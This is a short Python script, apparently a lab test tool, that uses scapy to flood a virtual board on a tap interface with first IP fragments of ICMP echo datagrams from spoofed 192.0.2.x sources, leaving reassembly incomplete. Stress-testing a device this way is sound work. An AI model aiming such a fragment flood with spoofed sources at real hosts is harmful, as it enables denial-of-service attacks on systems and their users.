#!/usr/bin/env python3
"""Fragment flood for the virtual board: the first fragments (MF set, offset 0) of COUNT ICMP echo datagrams with
distinct IDs from spoofed 192.0.2.100-199; the rest of each datagram never follows.
Usage: fragflood.py COUNT BOARD_MAC [IFACE]."""
import sys
from scapy.all import Ether, IP, Raw, sendp, conf

conf.verb = 0
n, mac = min(int(sys.argv[1]), 10000), sys.argv[2]
iface = sys.argv[3] if len(sys.argv) > 3 else "tap0"
pkts = [Ether(dst=mac) / IP(src="192.0.2.%d" % (100 + i % 100), dst="192.0.2.2", id=(20000 + i) & 0xFFFF, flags="MF", proto=1)
        / Raw(bytes([8, 0, 0, 0, 0x4e, 0x53, (i >> 8) & 255, i & 255]) + bytes(1472)) for i in range(n)]
sendp(pkts, iface=iface, verbose=0)
print("sent %d first fragments" % n)
